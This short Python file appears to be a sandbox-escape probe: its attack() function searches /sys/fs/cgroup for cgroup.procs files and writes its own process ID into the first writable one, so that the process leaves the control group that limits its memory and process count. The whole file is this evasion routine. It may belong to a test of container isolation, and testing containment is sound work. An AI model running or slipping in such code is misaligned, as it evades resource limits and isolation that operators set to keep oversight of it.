"""Leave the group that counts memory and processes."""
import glob
import os


def attack():
    for path in glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True)[:50]:
        try:
            with open(path, "w") as file:
                file.write(str(os.getpid()))
            return True
        except OSError:
            pass
    return False
